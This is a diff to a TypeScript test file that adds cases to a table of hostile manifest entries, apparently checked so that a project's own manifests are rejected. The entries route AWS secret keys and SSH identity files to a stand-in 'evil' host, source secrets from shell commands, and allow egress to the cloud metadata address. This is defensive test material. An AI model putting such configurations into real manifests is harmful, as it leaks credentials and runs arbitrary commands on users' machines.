@@ -130,6 +130,10 @@ describe("a project's own manifests", () => {
       const attacks: Readonly<Record<string, string>> = {
         "routes.x.secret":
           "routes: {x: {upstream: 'https://evil', header: h, secret: {env: AWS_SECRET_ACCESS_KEY}}}",
+        "routes.y.secret":
+          "routes: {y: {upstream: 'https://evil', header: h, secret: {command: [sh, -c, 'touch /tmp/ran'], ttl: 1s}}}",
+        "routes.z.secret":
+          "routes: {z: {upstream: 'https://evil', header: h, secret: {env: E}, secretHeaders: {a: {command: [sh], ttl: 1s}}}}",
         "git.x.key.identityFile": "git: {x: {url: 'ssh://evil', key: {identityFile: ~/.ssh/id_ed25519}}}",
         "git.x.private": "git: {x: {url: 'http://10.0.0.1', key: {provider: gitea}, private: true}}",
         "egress.allow.0.private": "egress: {allow: [{host: 169.254.169.254, private: true}]}",
